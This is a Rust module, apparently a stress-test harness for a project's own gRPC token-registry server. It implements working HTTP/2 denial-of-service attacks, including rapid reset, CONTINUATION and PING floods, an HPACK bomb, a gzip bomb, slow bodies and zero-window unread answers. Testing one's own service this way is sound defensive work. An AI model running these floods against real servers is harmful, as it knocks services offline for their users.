//! The attacks: each does its worst on its connections until the time is over, and begins anew when it is thrown out.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout_at};

use super::http2::{
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM,
    WINDOW_UPDATE, call_headers, depends_on, frame, framed, header, indexed_header, settings,
};

const CHECK_SESSION: &str = "/tokenregistry.v1.WhitelistService/CheckSession";
const BATCH: &str = "/tokenregistry.v1.WhitelistService/BatchCheckSessions";
const LIST: &str = "/tokenregistry.v1.WhitelistService/ListRefreshTokens";
const CONSUME: &str = "/tokenregistry.v1.GenericTokenService/ConsumeGenericToken";

/// The user whose list is long: [`Name::UnreadAnswers`] asks for it.
pub const RICH_USER: &str = "rich";

/// Streams that the server grants to a connection.
const STREAMS: u32 = token_registry::server::CALLS_OF_A_CONNECTION;

macro_rules! attacks {
    ($($(#[doc = $doc:literal])* $name:ident $text:literal $connections:literal,)*) => {
        /// What there is.
        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
        pub enum Name {
            $($(#[doc = $doc])* $name,)*
        }

        /// All of them.
        pub const ALL: &[Name] = &[$(Name::$name,)*];

        impl Name {
            /// As people write it.
            pub fn text(self) -> &'static str {
                match self { $(Self::$name => $text,)* }
            }

            /// How many connections at once make it an attack.
            pub fn connections(self) -> usize {
                match self { $(Self::$name => $connections,)* }
            }
        }
    };
}

attacks! {
    /// Connections that say nothing.
    HalfOpen "half-open" 400,
    /// Connections that send a byte of their preface now and then.
    SlowPreface "slow preface" 400,
    /// Calls whose message comes a byte at a time, and never whole.
    SlowBodies "slow bodies" 8,
    /// Messages as large as may be, but for their last byte.
    HeldBodies "held bodies" 8,
    /// Calls that are reset as soon as they are sent.
    RapidReset "rapid reset" 4,
    /// Calls that make the server reset them, by a frame that is wrong.
    MadeYouReset "made you reset" 4,
    /// More streams than granted.
    Streams "too many streams" 4,
    /// `SETTINGS`, whose acknowledgements aren't read.
    Settings "settings flood" 4,
    /// `PING`, whose acknowledgements aren't read.
    Pings "ping flood" 4,
    /// `PRIORITY` of streams that nobody has opened.
    Priorities "priority flood" 4,
    /// Windows opened a byte at a time.
    Windows "window flood" 4,
    /// `DATA` without data, for ever.
    EmptyData "empty data" 4,
    /// Headers that go on for ever.
    Continuation "continuation flood" 4,
    /// Large headers, many of them.
    LargeHeaders "large headers" 4,
    /// One large header in the dynamic table, named by a byte a time.
    HpackBomb "HPACK bomb" 4,
    /// Answers that nobody takes: their window is zero.
    UnreadAnswers "unread answers" 8,
    /// The same with a window of a byte, which lets a whole message into the queue of the library.
    TinyWindow "tiny window" 8,
    /// Messages over every limit, announced and sent.
    Oversized "oversized" 4,
    /// A few bytes of gzip that would be many.
    GzipBomb "gzip bomb" 4,
    /// What isn't HTTP/2 at all: HTTP/1.1, TLS, noise.
    Garbage "garbage" 4,
}

/// What an attack got done.
#[derive(Debug, Clone, Copy, Default)]
pub struct Done {
    /// Connections that were opened.
    pub connections: u64,
    /// Those that the server closed, or left unanswered for so long that the attack gave up.
    pub closed: u64,
    /// Frames, or what else the attack counts in.
    pub sent: u64,
}

impl Done {
    fn add(&mut self, other: Self) {
        self.connections += other.connections;
        self.closed += other.closed;
        self.sent += other.sent;
    }
}

/// Attacks until the time is over.
pub async fn run(name: Name, address: SocketAddr, time: Duration) -> Done {
    let until = Instant::now() + time;
    let mut attackers = JoinSet::new();
    for _ in 0..name.connections() {
        attackers.spawn(async move {
            let mut done = Done::default();
            while Instant::now() < until {
                let mut sent = 0;
                done.connections += 1;
                if let Ok(Err(_)) = timeout_at(until, once(name, address, &mut sent)).await {
                    done.closed += 1;
                    // A machine has only so many ports.
                    sleep(Duration::from_millis(5)).await;
                }
                done.sent += sent;
            }
            done
        });
    }
    let mut all = Done::default();
    for done in attackers.join_all().await {
        all.add(done);
    }
    all
}

/// One connection's attack, until the server closes it.
async fn once(name: Name, address: SocketAddr, sent: &mut u64) -> io::Result<()> {
    match name {
        Name::HalfOpen => {
            let mut connection = Connection::plain(address).await?;
            *sent += 1;
            connection.closed().await;
            Err(io::ErrorKind::ConnectionReset.into())
        }
        Name::SlowPreface => {
            let mut connection = Connection::plain(address).await?;
            for byte in super::http2::PREFACE.iter().cycle() {
                connection.send(&[*byte]).await?;
                *sent += 1;
                sleep(Duration::from_secs(1)).await;
            }
            Ok(())
        }
        Name::SlowBodies => slow_bodies(address, sent).await,
        Name::HeldBodies => held_bodies(address, sent).await,
        Name::UnreadAnswers => unread_answers(address, 0, sent).await,
        Name::TinyWindow => unread_answers(address, 1, sent).await,
        Name::Settings => flood(address, &settings(&[(3, 100), (4, 65_535)]), false, sent).await,
        Name::Pings => flood(address, &frame(PING, 0, 0, b"hostile!"), false, sent).await,
        Name::Priorities => {
            let priorities = (1..2000_u32).map(|n| frame(PRIORITY, 0, 2 * n + 1, &[0, 0, 0, 0, 16]));
            flood(address, &priorities.collect::<Vec<_>>().concat(), true, sent).await
        }
        Name::Windows => flood(address, &frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()), true, sent).await,
        Name::EmptyData => {
            let mut connection = Connection::open(address, &[]).await?;
            connection.send(&frame(HEADERS, END_HEADERS, 1, &call_headers(CHECK_SESSION))).await?;
            flood_on(&mut connection, &frame(DATA, 0, 1, &[]), true, sent).await
        }
        Name::Continuation => {
            let mut connection = Connection::open(address, &[]).await?;
            connection.send(&frame(HEADERS, 0, 1, &call_headers(CHECK_SESSION))).await?;
            flood_on(&mut connection, &frame(CONTINUATION, 0, 1, &header("x", &"y".repeat(1000))), true, sent)
                .await
        }
        Name::Garbage => garbage(address, sent).await,
        _ => streams(name, address, sent).await,
    }
}

/// The same bytes again and again.
async fn flood(address: SocketAddr, bytes: &[u8], read: bool, sent: &mut u64) -> io::Result<()> {
    let mut connection = Connection::open(address, &[]).await?;
    flood_on(&mut connection, bytes, read, sent).await
}

async fn flood_on(connection: &mut Connection, bytes: &[u8], read: bool, sent: &mut u64) -> io::Result<()> {
    let times = (16 * 1024 / bytes.len()).max(1);
    let many = bytes.repeat(times);
    loop {
        connection.send(&many).await?;
        *sent += u64::try_from(times).unwrap_or_default();
        if read {
            connection.drain();
        }
        tokio::task::yield_now().await;
    }
}

/// Attacks that open stream after stream.
async fn streams(name: Name, address: SocketAddr, sent: &mut u64) -> io::Result<()> {
    let mut connection = Connection::open(address, &[]).await?;
    let question = framed(0, b"\x0a\x03ada\x12\x06laptop");
    // HPACK's own order counts: this is in the table after the first stream.
    let bomb =
        [call_headers(CHECK_SESSION), indexed_header("x-bomb", &"x".repeat(3900)), vec![0xbe; 4000]].concat();
    let large: Vec<u8> = (0..100).flat_map(|n| header(&format!("x-{n}"), &"y".repeat(1000))).collect();
    let mut stream = 1;
    while stream < 1 << 30 {
        let headers = frame(HEADERS, END_HEADERS, stream, &call_headers(CHECK_SESSION));
        let bytes = match name {
            Name::RapidReset => [
                headers,
                frame(DATA, END_STREAM, stream, &question),
                frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
            ]
            .concat(),
            Name::MadeYouReset => [
                headers,
                frame(DATA, END_STREAM, stream, &question),
                frame(PRIORITY, 0, stream, &depends_on(stream)),
            ]
            .concat(),
            Name::LargeHeaders => {
                long_headers(stream, &[call_headers(CHECK_SESSION), large.clone()].concat())
            }
            Name::HpackBomb => long_headers(stream, &bomb),
            Name::Oversized => {
                let part = vec![0; 16 * 1024];
                let mut bytes = [headers, frame(DATA, 0, stream, &[0, 0, 0x40, 0, 0])].concat();
                for _ in 0..4 {
                    bytes.extend(frame(DATA, 0, stream, &part));
                }
                bytes
            }
            Name::GzipBomb => {
                let headers = [call_headers(CONSUME), header("grpc-encoding", "gzip")].concat();
                let message = framed(1, include_bytes!("bomb.gz"));
                let mut bytes = frame(HEADERS, END_HEADERS, stream, &headers);
                for part in message.chunks(16 * 1024) {
                    bytes.extend(frame(DATA, 0, stream, part));
                }
                bytes.extend(frame(DATA, END_STREAM, stream, &[]));
                bytes
            }
            // And never an end.
            _ => headers,
        };
        connection.send(&bytes).await?;
        connection.drain();
        *sent += 1;
        stream += 2;
        tokio::task::yield_now().await;
    }
    Ok(())
}

/// Headers in as many frames as they need.
fn long_headers(stream: u32, headers: &[u8]) -> Vec<u8> {
    let parts: Vec<&[u8]> = headers.chunks(16 * 1024).collect();
    let mut bytes = Vec::new();
    for (n, part) in parts.iter().enumerate() {
        let kind = if n == 0 { HEADERS } else { CONTINUATION };
        let flags = if n + 1 == parts.len() { END_HEADERS } else { 0 };
        bytes.extend(frame(kind, flags | if n == 0 { END_STREAM } else { 0 }, stream, part));
    }
    bytes
}

async fn slow_bodies(address: SocketAddr, sent: &mut u64) -> io::Result<()> {
    let connection = Connection::open(address, &[]).await?.polite();
    let streams: Vec<u32> = (0..STREAMS).map(|n| 2 * n + 1).collect();
    for stream in &streams {
        connection.send(&frame(HEADERS, END_HEADERS, *stream, &call_headers(CHECK_SESSION))).await?;
        connection.send(&frame(DATA, 0, *stream, &[0, 0, 0, 1, 0])).await?;
    }
    while !connection.is_closed() {
        for stream in &streams {
            connection.send(&frame(DATA, 0, *stream, &[0])).await?;
            *sent += 1;
        }
        sleep(Duration::from_millis(500)).await;
    }
    Err(io::ErrorKind::ConnectionReset.into())
}

async fn held_bodies(address: SocketAddr, sent: &mut u64) -> io::Result<()> {
    let connection = Connection::open(address, &[]).await?.polite();
    // One question of a batch, with a field in it that no version knows.
    let part = vec![0; 16 * 1024 - 1];
    for n in 0..STREAMS {
        let stream = 2 * n + 1;
        connection.send(&frame(HEADERS, END_HEADERS, stream, &call_headers(BATCH))).await?;
        // A million bytes to come, but for the last.
        let mut left = 1_000_000 - 1_usize;
        connection.take_window(5).await;
        connection.send(&frame(DATA, 0, stream, &[0, 0, 0x0f, 0x42, 0x40])).await?;
        while left > 0 && !connection.is_closed() {
            let now = left.min(part.len());
            connection.take_window(now).await;
            connection.send(&frame(DATA, 0, stream, &part[..now])).await?;
            left -= now;
            *sent += 1;
        }
    }
    while !connection.is_closed() {
        sleep(Duration::from_millis(100)).await;
    }
    Err(io::ErrorKind::ConnectionReset.into())
}

async fn unread_answers(address: SocketAddr, window: u32, sent: &mut u64) -> io::Result<()> {
    // A window for each stream so small that no answer passes.
    let connection = Connection::open(address, &[(4, window)]).await?.polite();
    // ListRefreshTokens: user_id, and pages of 500.
    let mut list = vec![0x0a, u8::try_from(RICH_USER.len()).expect("a short name")];
    list.extend(RICH_USER.as_bytes());
    list.extend([0x10, 0xf4, 0x03]);
    let list = framed(0, &list);
    for n in 0..STREAMS {
        let stream = 2 * n + 1;
        connection.send(&frame(HEADERS, END_HEADERS, stream, &call_headers(LIST))).await?;
        connection.send(&frame(DATA, END_STREAM, stream, &list)).await?;
        *sent += 1;
    }
    while !connection.is_closed() {
        sleep(Duration::from_millis(100)).await;
    }
    Err(io::ErrorKind::ConnectionReset.into())
}

async fn garbage(address: SocketAddr, sent: &mut u64) -> io::Result<()> {
    let openings: [&[u8]; 6] = [
        b"GET / HTTP/1.1\r\nHost: registry\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03 a client hello of TLS, cut short",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nand no frame of any kind that there is in this world",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\xff\xff\xff\x04\x00\x00\x00\x00\x00",
        b"\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
        b"\r\n\r\n\r\n\r\n",
    ];
    for opening in openings {
        let mut connection = Connection::plain(address).await?;
        connection.send(opening).await?;
        *sent += 1;
        // Some of these could be the beginning of something; nobody waits for that here.
        let _ = tokio::time::timeout(Duration::from_millis(20), connection.closed()).await;
    }
    Err(io::ErrorKind::ConnectionReset.into())
}
